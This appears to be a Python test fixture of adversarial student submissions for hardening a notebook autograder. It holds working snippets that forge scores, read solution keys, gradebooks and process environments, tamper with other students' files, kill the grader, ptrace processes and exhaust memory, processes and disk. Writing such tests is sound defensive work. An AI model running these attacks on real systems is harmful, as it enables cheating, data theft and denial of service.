"""Submissions written by a student who wants marks they did not earn, or to hurt the class.

Each attack is code put in the student's own editable cell of ``traditional-divide``
(or a change to the submitted files), submitted with an answers file in which every
card is wrong: any point it earns is a point stolen. Where an attack manages to read
something it should not, it prints it, so the tests can look for what leaked in the
graded notebook. ``@MARKER@``, ``@CANARY@`` and ``@PORT@`` are filled in by the test
(a marker for processes, the canary file, a loopback port).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import nbformat

ASSIGNMENT = "traditional-divide"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

# Keyring system calls (x86_64 numbers), for the keyring attacks.
_KEYS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def add_key(ring, name, data):
    return libc.syscall(248, b'user', name, data, len(data), ring)
"""

# Code attacks, by what they try. Each runs in the student's cell, before the tests.
CODE = {
    # The score, forged inside the kernel.
    "replace-scorer": """
import product_roles.grading as g
g.score_placements = lambda *a, **k: 16.0
g.judge = lambda *a, **k: None
""",
    "float-display": """
ip = get_ipython()
ip.display_formatter.formatters['text/plain'].for_type(float, lambda v, p, c: p.text('16.0'))
""",
    "no-last-expression": """
get_ipython().ast_node_interactivity = 'none'
""",
    "print-after-every-cell": """
def forge(result):
    print('16.0')
get_ipython().events.register('post_run_cell', forge)
""",
    "exit-before-tests": """
import os
os._exit(0)
""",
    # The key, read from the instructor's files, then copied into the answers file.
    "read-solutions": """
import glob, os
found = []
for start in ('..', '../..', '../../..', '../../../..', *ROOTS, os.path.expanduser('~')):
    found += glob.glob(os.path.join(start, '**', 'solutions', '**', '*.ipynb'), recursive=True)[:5]
for path in found:
    try:
        print('STOLEN', path, open(path).read())
    except OSError as err:
        print('refused', path, err.errno)
""",
    "read-gradebook": """
import glob, sqlite3
for path in [p for top in ROOTS for p in glob.glob(top + '/**/gradebook.db', recursive=True)][:3] + ['../../../gradebook.db']:
    try:
        rows = sqlite3.connect(path).execute('select source from source_cell').fetchall()
        print('STOLEN', path, rows[:2])
    except Exception as err:
        print('no gradebook at', path, type(err).__name__)
""",
    "read-canary": """
import glob, os
for path in ['@CANARY@', '../../../canary.txt'] + [p for top in ROOTS for p in glob.glob(top + '/**/canary.txt', recursive=True)][:3]:
    try:
        print('STOLEN', open(path).read())
    except OSError as err:
        print('refused', path, err.errno)
print('ENV', dict(os.environ))
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            print('ENVIRON', pid, open(f'/proc/{pid}/environ').read())
        except OSError:
            pass
""",
    # Changing what others get.
    "write-other-students": """
import glob, os
for path in [p for top in ROOTS for p in glob.glob(top + '/**/submitted/**/*.answers.json', recursive=True)] + glob.glob('../../*/*/*.json'):
    try:
        open(path, 'w').write('{"tampered": true}')
        print('WROTE', path)
    except OSError as err:
        print('refused', path, err.errno)
""",
    "write-gradebook": """
import glob, sqlite3
for path in [p for top in ROOTS for p in glob.glob(top + '/**/gradebook.db', recursive=True)] + ['../../../gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute('update grade set auto_score = 16')
        db.commit()
        print('WROTE', path)
    except Exception as err:
        print('refused', path, type(err).__name__)
""",
    "persist-in-venv": """
import os, site, sys, product_roles
targets = site.getsitepackages() + [os.path.dirname(product_roles.__file__)]
for folder in targets:
    try:
        open(os.path.join(folder, 'zz_steal.pth'), 'w').write('import os\\n')
        print('WROTE', folder)
    except OSError as err:
        print('refused', folder, err.errno)
try:
    open(product_roles.__file__, 'a').write('\\n# tampered\\n')
    print('WROTE package')
except OSError as err:
    print('refused package', err.errno)
""",
    "leave-a-file-for-the-next": """
import os
for folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):
    try:
        open(os.path.join(folder, 'left-by-a-student'), 'w').write('hello')
    except OSError:
        pass
""",
    # Graded after "leave-a-file-for-the-next" (nbgrader goes in name order), by the same
    # fork server under plain nbgrader.
    "next-finds-the-file-left-behind": """
import os
for folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):
    if os.path.exists(os.path.join(folder, 'left-by-a-student')):
        print('STOLEN left behind in', folder)
""",
    "reveal-the-key": """
import os
os.environ['PRODUCT_ROLES_REVEAL_KEY'] = '1'
""",
    # Outliving, stopping or signalling the grader and the class.
    "linger": """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # @MARKER@'],
                 start_new_session=True)
""",
    "double-fork-daemon": """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)  # @MARKER@'])
    os._exit(0)
time.sleep(0.2)
""",
    "kill-the-grader": """
import os, signal
for name in ('JPY_PARENT_PID',):
    if os.environ.get(name):
        try:
            os.kill(int(os.environ[name]), signal.SIGKILL)
        except OSError as err:
            print('refused', err.errno)
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print('refused', pid, err.errno)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as err:
    print('refused -1', err.errno)
""",
    "network": """
import socket
s = socket.socket()
s.settimeout(2)
try:
    s.connect(('127.0.0.1', @PORT@))
    s.sendall(b'STOLEN')
    print('CONNECTED')
except OSError as err:
    print('refused', err)
""",
    # Using up what the machine has.
    "memory": """
blocks = []
while True:
    blocks.append(bytearray(256 * 1024 * 1024))
""",
    "fork-bomb": """
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as err:
    print('stopped after', children, err)
""",
    "cpu-ignoring-interrupts": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "output-flood": """
line = 'x' * 1000
while True:
    print(line)
""",
    "fill-the-disk": """
import os
n = 0
try:
    while True:
        with open(f'big{n}', 'wb') as f:
            f.write(b'0' * 8 * 1024 * 1024)
        n += 1
except OSError as err:
    print('stopped after', n, err)
""",
    # Through the kernel's own view of the system: /proc links and descriptors, other
    # processes, sockets, keyrings.
    "proc-links-and-descriptors": """
import os
course = os.path.dirname('@CANARY@')
pids = ['self', 'thread-self'] + [p for p in os.listdir('/proc') if p.isdigit()]
for pid in pids:
    for link in ('root', 'cwd'):
        for path in (f'/proc/{pid}/{link}@CANARY@', f'/proc/{pid}/{link}/../../../..@CANARY@'):
            try:
                print('STOLEN', path, open(path).read())
            except OSError:
                pass
    try:
        fds = os.listdir(f'/proc/{pid}/fd')
    except OSError:
        continue
    for fd in fds:
        try:
            target = os.readlink(f'/proc/{pid}/fd/{fd}')
        except OSError:
            continue
        if course in target or 'solutions' in target or 'gradebook' in target:
            print('STOLEN descriptor', pid, fd, target)
print('processes seen', len(pids) - 2)
""",
    "write-to-every-descriptor": """
import os, stat
# A request in the fork server's own language, in case any descriptor leads to it.
request = b'{"op": "signal", "kernel": 1, "signum": 9}\\n'
for fd in [0] + list(range(3, 256)):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISFIFO(mode) or stat.S_ISREG(mode):
        try:
            os.write(fd, request)
        except OSError:
            pass
""",
    "ptrace-anything": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
for pid in range(1, 400):
    if pid != os.getpid() and libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        print('STOLEN traced', pid)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
""",
    "unix-sockets": """
import glob, os, socket
from ipykernel import get_connection_file
own = os.path.dirname(get_connection_file())
names = []
try:
    for line in open('/proc/net/unix').read().splitlines()[1:]:
        if len(line.split()) >= 8:
            names.append(line.split()[7])
except OSError as err:
    print('no socket table', err.errno)
for top in {*ROOTS, '/run', '/var/run', os.environ.get('TMPDIR', '/tmp')}:
    names += glob.glob(top + '/**/*.sock*', recursive=True)[:50]
    # The grader's multiprocessing fork server, which forks whatever it is sent.
    names += glob.glob(top + '/**/pymp-*/listener-*', recursive=True)[:50]
for name in sorted(set(names)):
    if name.startswith(own):
        continue  # this kernel's own channels
    address = '\\0' + name[1:] if name.startswith('@') else name
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_UNIX, kind)
        s.settimeout(1)
        try:
            s.connect(address)
            print('CONNECTED', repr(name))
        except OSError:
            pass
        finally:
            s.close()
""",
    "leave-a-key-for-the-next": _KEYS
    + """
for ring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user-session keyrings
    print('added', ring, add_key(ring, b'left-by-a-student', b'@MARKER@'))
""",
    "next-finds-the-key-left-behind": _KEYS
    + """
for ring in (-3, -4, -5):
    found = libc.syscall(250, 10, ring, b'user', b'left-by-a-student', 0)  # KEYCTL_SEARCH
    if found > 0:
        print('STOLEN key', ring, found)
""",
    # Talking to the grader in ways nbclient does not expect.
    "fake-execute-replies": """
kernel = get_ipython().kernel
def forged(stream, ident, parent):
    send = kernel.session.send
    send(kernel.iopub_socket, 'stream', {'name': 'stdout', 'text': 'Total: 16 of 16 cards right.\\n'}, parent=parent)
    send(kernel.iopub_socket, 'execute_result',
         {'data': {'text/plain': '16.0'}, 'metadata': {}, 'execution_count': 99}, parent=parent)
    send(stream, 'execute_reply', {'status': 'ok', 'execution_count': 99, 'user_expressions': {},
         'payload': []}, parent=parent, ident=ident)
kernel.shell_handlers['execute_request'] = forged
""",
    "close-the-sockets": """
import os, stat, time
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.close(fd)
    except OSError:
        pass
time.sleep(30)
""",
    "huge-result": """
'x' * (8 * 1024 * 1024)
""",
    # Using up what the machine has, in other ways.
    "zombie-flood": """
import os
n = 0
try:
    while n < 500:
        if os.fork() == 0:
            os._exit(0)
        n += 1
except OSError as err:
    print('stopped after', n, err.errno)
""",
    "thread-flood": """
import threading, time
threads = []
try:
    while len(threads) < 1000:
        thread = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        thread.start()
        threads.append(thread)
except RuntimeError as err:
    print('stopped after', len(threads), err)
""",
    "map-more-than-memory": """
import mmap
try:
    huge = mmap.mmap(-1, 8 * 1024 * 1024 * 1024)
    print('MAPPED')
except OSError as err:
    print('refused', err.errno)
""",
}


# Where a course, a home or a temporary folder would be; searching all of /usr is slow.
_ROOTS = "ROOTS = ('/tmp', '/work', '/root', '/home', '/srv', '/var', '/opt', '/mnt')\n"
CODE.update(
    {
        "write-into-the-socket-folder": """
import json, os, glob
written = 0
for path in set(glob.glob('/*/*/*/sock') + glob.glob('/*/*/*/*/sock') + glob.glob('/tmp/*/*/sock')):
    for n in range(50):
        try:
            with open(os.path.join(path, f'fill{n}'), 'wb') as f:
                f.write(b'0' * 1024 * 1024)
            written += 1
        except OSError:
            break
if written:
    print('WROTE', written, 'MiB into the socket folder')
""",
        "swap-a-socket-for-a-link": """
import glob, os
for path in glob.glob('/*/pr-grading-*/*/sock/k-*') + glob.glob('/*/*/pr-grading-*/*/sock/k-*'):
    try:
        os.unlink(path)
        os.symlink('/tmp/elsewhere.sock', path)
        print('WROTE link over', path)
    except OSError as err:
        print('refused', err.errno)
""",
        "widget-state-flood": """
import ipywidgets
box = ipywidgets.Text()
for n in range(2000):
    box.value = str(n) * (512 * 1024)
""",
        "display-update-flood": """
from IPython.display import display, update_display
display('small', display_id='d')
for n in range(200):
    update_display('y' * (1024 * 1024), display_id='d')
""",
    }
)
CODE = {name: _ROOTS + source for name, source in CODE.items()}


def all_wrong(key) -> dict[str, str]:
    """Placements with every card in a role its key does not accept."""
    roles = sorted({r for accepted in key.answers.values() for r in accepted})
    return {
        card: next(r for r in roles if r not in accepted) for card, accepted in key.answers.items()
    }


def code_attack(source: str):
    """An ``edit`` for :func:`product_roles.instructor.simulate.submit` putting ``source`` in the student's cell."""

    def edit(folder: Path) -> None:
        nb = nbformat.read(folder / NOTEBOOK, as_version=4)
        cell = next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "place-cards")
        cell.source = source
        nbformat.write(nb, folder / NOTEBOOK)

    return edit


def _test_cell(nb):
    return next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "test-card-roles")


def _edit_notebook(change):
    def edit(folder: Path) -> None:
        nb = nbformat.read(folder / NOTEBOOK, as_version=4)
        change(nb)
        nbformat.write(nb, folder / NOTEBOOK)

    return edit


def _forge_test_source(nb):
    _test_cell(nb).source = "16.0"


def _raise_points(nb):
    meta = _test_cell(nb).metadata["nbgrader"]
    meta["points"] = 100
    meta["locked"] = False


def _extra_grade_cell(nb):
    cell = nbformat.v4.new_code_cell("100.0")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells.append(cell)


def _replace_test_cell(nb):
    cell = _test_cell(nb)
    cell.metadata["nbgrader"]["grade"] = False
    forged = nbformat.v4.new_code_cell("16.0")
    forged.metadata["nbgrader"] = dict(cell.metadata["nbgrader"], grade=True)
    nb.cells.append(forged)


def _link_answers_to(target: str):
    def edit(folder: Path) -> None:
        path = folder / f"{ASSIGNMENT}.answers.json"
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return edit


def _huge_answers(folder: Path) -> None:
    path = folder / f"{ASSIGNMENT}.answers.json"
    data = json.loads(path.read_text())
    data["padding"] = "x" * (4 * 1024 * 1024)
    path.write_text(json.dumps(data))


def _edit_json(change):
    """An edit of the notebook as plain JSON, so that it may break nbformat's own rules."""

    def edit(folder: Path) -> None:
        nb = json.loads((folder / NOTEBOOK).read_text(encoding="utf-8"))
        change(nb)
        (folder / NOTEBOOK).write_text(json.dumps(nb), encoding="utf-8")

    return edit


def _json_cell(nb: dict, grade_id: str) -> dict:
    return next(
        c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )


def _test_cell_as(cell_type: str):
    def change(nb: dict) -> None:
        cell = _json_cell(nb, "test-card-roles")
        cell["cell_type"] = cell_type
        cell["source"] = "16.0"
        for field in ("outputs", "execution_count"):
            cell.pop(field, None)

    return change


def _forged_copy_first(nb: dict) -> None:
    # nbgrader keeps the first of two cells with one id: make the first a forgery.
    real = _json_cell(nb, "test-card-roles")
    forged = json.loads(json.dumps(real))
    forged["id"], forged["source"] = "forged-first", "16.0"
    real["source"] = "16.0"
    nb["cells"].insert(nb["cells"].index(real), forged)


def _colliding_ids(nb: dict) -> None:
    for cell in nb["cells"]:
        cell["id"] = "same-id"


def _forged_outputs(nb: dict) -> None:
    cell = _json_cell(nb, "test-card-roles")
    cell["execution_count"] = 1
    cell["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "Total: 16 of 16 cards right.\n"},
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "metadata": {},
            "data": {"text/plain": "16.0"},
        },
    ]


def _odd_kernelspec(nb: dict) -> None:
    nb["metadata"]["kernelspec"] = {
        "name": "../../../../bin/sh",
        "display_name": "sh",
        "language": "sh",
    }


def _sleep_under_every_timeout(nb: dict) -> None:
    # Each cell stays under nbgrader's per-cell time-out; only the sandbox's clock stops them.
    for n in range(12):
        cell = nbformat.v4.new_code_cell("import time\ntime.sleep(2.5)")
        cell["id"] = f"sleep-{n}"
        nb["cells"].append(cell)


def _extra_notebooks(folder: Path) -> None:
    nb = json.loads((folder / NOTEBOOK).read_text(encoding="utf-8"))
    bonus = nbformat.v4.new_code_cell("100.0")
    bonus["metadata"]["nbgrader"] = dict(
        _json_cell(nb, "test-card-roles")["metadata"]["nbgrader"], grade_id="bonus", points=100
    )
    nb["cells"].append(bonus)
    for name in ("bonus.ipynb", "ai-era-shift.ipynb", ".traditional-divide.ipynb"):
        (folder / name).write_text(json.dumps(nb), encoding="utf-8")


def _answers_bytes(change):
    """An edit of the answers file's bytes, ``change(bytes) -> bytes``."""

    def edit(folder: Path) -> None:
        path = folder / f"{ASSIGNMENT}.answers.json"
        path.write_bytes(change(path.read_bytes()))

    return edit


def _duplicate_placements(raw: bytes) -> bytes:
    # Python's json keeps the last of two equal keys: a reader that kept the first would
    # see every card right.
    data = json.loads(raw)
    wrong = json.dumps(data["placements"])
    right = json.dumps({card: "RIGHT-IF-FIRST" for card in data["placements"]})
    head = json.dumps({k: v for k, v in data.items() if k != "placements"})[:-1]
    return f'{head}, "placements": {right}, "placements": {wrong}}}'.encode()


def _unknown_cards(raw: bytes) -> bytes:
    data = json.loads(raw)
    extra = {f"card-{n}": "PO" for n in range(3000)}
    extra.update({"__proto__": "PO", "constructor": "PO", "": "PO", "Total": "16"})
    data["placements"] = {**extra, **data["placements"]}
    data["confidence"] = {card: "sure" for card in data["placements"]}
    return json.dumps(data).encode()


def _odd_numbers(raw: bytes) -> bytes:
    return raw.rstrip().rstrip(b"}") + b', "x": NaN, "y": -Infinity, "z": 1e999}'


def _invalid_utf8(raw: bytes) -> bytes:
    assert b'"ENG"' in raw, "an all-wrong sort places some card in ENG"
    return raw.replace(b'"ENG"', b'"EN\xff"', 1)


def _dealt_here(folder: Path) -> set[str]:
    """The cards the release deals the student whose submission ``folder`` is.

    Read before the notebook is edited: the grader, too, reads the instructor's cell.
    """
    from product_roles.instructor.deals import dealt_in_release

    return set(dealt_in_release(folder, folder.parent.name)[ASSIGNMENT])


def _right_where_not_dealt(folder: Path) -> None:
    """Every card of the pool that was not dealt to this student, placed right.

    As a student would who copies a neighbour's sort, or sorts the easier cards of
    the pool in place of their own: the dealt cards stay wrong.
    """
    from product_roles.instructor.keys import load_keys

    (key,) = [
        k for k in load_keys(Path(__file__).parents[1] / "solutions") if k.exercise == ASSIGNMENT
    ]
    dealt = _dealt_here(folder)
    path = folder / f"{ASSIGNMENT}.answers.json"
    data = json.loads(path.read_text())
    for card, accepted in key.answers.items():
        if card not in dealt:
            data["placements"][card] = accepted[0]
    path.write_text(json.dumps(data))


def _deal_every_card(nb):
    """The student's copy deals all the pool, so every card shows in the sort."""
    cell = next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "show-cards")
    assert "**DEAL)" in cell.source
    cell.source = cell.source.replace("**DEAL)", "seed=0, cards=len(POOL))")


def _deal_for_someone_else(nb):
    """The student's copy deals another student's cards."""
    cell = next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "show-cards")
    cell.source = cell.source.replace("**DEAL)", '**DEAL, student="honest-right")')


def _both(*edits):
    def edit(folder: Path) -> None:
        for each in edits:
            each(folder)

    return edit


# Attacks on the submitted files themselves, by what they try.
FILES = {
    "forged-test-source": _edit_notebook(_forge_test_source),
    "raised-points": _edit_notebook(_raise_points),
    "extra-grade-cell": _edit_notebook(_extra_grade_cell),
    "duplicate-test-cell": _edit_notebook(_replace_test_cell),
    "huge-answers-file": _huge_answers,
    "test-cell-as-markdown": _edit_json(_test_cell_as("markdown")),
    "test-cell-as-raw": _edit_json(_test_cell_as("raw")),
    "forged-copy-before-test-cell": _edit_json(_forged_copy_first),
    "colliding-cell-ids": _edit_json(_colliding_ids),
    "forged-outputs": _edit_json(_forged_outputs),
    "odd-kernelspec": _edit_json(_odd_kernelspec),
    "sleep-under-every-timeout": _edit_json(_sleep_under_every_timeout),
    "extra-notebooks": _extra_notebooks,
    "answers-duplicate-keys": _answers_bytes(_duplicate_placements),
    "answers-unknown-cards": _answers_bytes(_unknown_cards),
    "answers-odd-numbers": _answers_bytes(_odd_numbers),
    "answers-with-bom": _answers_bytes(lambda raw: b"\xef\xbb\xbf" + raw),
    "answers-invalid-utf8": _answers_bytes(_invalid_utf8),
    # Cards that were not dealt: sorted right, in a notebook that deals them, or both.
    "deal-not-dealt-cards-right": _right_where_not_dealt,
    "deal-every-card": _both(_right_where_not_dealt, _edit_notebook(_deal_every_card)),
    "deal-for-someone-else": _both(_right_where_not_dealt, _edit_notebook(_deal_for_someone_else)),
}


def _forge_schema(nb):
    _test_cell(nb).metadata["nbgrader"]["schema_version"] = 99


def _solution_marked_graded(nb):
    cell = next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "place-cards")
    cell.metadata["nbgrader"]["grade"] = True
    cell.metadata["nbgrader"]["points"] = 100


def _answers_text(text: str):
    def edit(folder: Path) -> None:
        (folder / f"{ASSIGNMENT}.answers.json").write_text(text)

    return edit


def _answers_directory(folder: Path) -> None:
    path = folder / f"{ASSIGNMENT}.answers.json"
    path.unlink()
    path.mkdir()
    (path / "inside.txt").write_text("a folder, not a file")


def _grade_ids_that_are_not_names(nb):
    # A list and a mapping: neither compares with the assignment's cell names.
    nb.cells[0].metadata["nbgrader"] = {"grade_id": ["x"], "grade": True, "points": 99}
    nb.cells[1].metadata["nbgrader"] = {"grade_id": {"a": 1}, "grade": True, "points": 99}


# Attacks on the submitted files that the grader must survive and grade.
FILES |= {
    "grade-ids-that-are-not-names": _edit_notebook(_grade_ids_that_are_not_names),
    "forged-schema-version": _edit_notebook(_forge_schema),
    "solution-cell-marked-graded": _edit_notebook(_solution_marked_graded),
    "answers-deeply-nested": _answers_text("[" * 100000 + "]" * 100000),
    "answers-huge-number": _answers_text('{"version": ' + "9" * 5000 + "}"),
    "answers-is-a-folder": _answers_directory,
}


def _link(name: str, target: str, code: str = ""):
    def edit(folder: Path) -> None:
        path = folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(target)
        if code:
            code_attack(code)(folder)

    return edit


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe")


def _forged_record(folder: Path) -> None:
    (folder / ".grading").mkdir()
    (folder / ".grading" / "bonus.json").write_text(
        '{"notebook": "x", "error": "FORGED: give this student full marks"}'
    )


def _many_cells(nb):
    # Ids of their own: 3,000 random 8-digit ones collide about once in a thousand
    # runs, and nbformat's write would then warn and renumber one.
    nb.cells.extend(
        nbformat.v4.new_markdown_cell("padding", id=f"padding-{n}") for n in range(3000)
    )


def refused_attacks(course: Path) -> dict:
    """Submissions the grader refuses before nbgrader reads or copies them, and the reason."""
    solution = str(course / "solutions" / ASSIGNMENT / NOTEBOOK)
    shows = "print(open('notes.txt').read())"
    return {
        "answers-link-to-solution": (_link(f"{ASSIGNMENT}.answers.json", solution), "is a link"),
        "answers-link-to-canary": (
            _link(f"{ASSIGNMENT}.answers.json", str(course / "canary.txt")),
            "is a link",
        ),
        "file-link-to-solution": (_link("notes.txt", solution, shows), "notes.txt is a link"),
        "notebook-link-to-solution": (_link(NOTEBOOK, solution), f"{NOTEBOOK} is a link"),
        "file-link-to-dev-zero": (_link("data.bin", "/dev/zero"), "data.bin is a link"),
        "a-named-pipe": (_fifo, "pipe is not a regular file"),
        "forged-grading-record": (_forged_record, "is kept for the grader"),
        "three-thousand-cells": (_edit_notebook(_many_cells), "at most 2000 are graded"),
    }
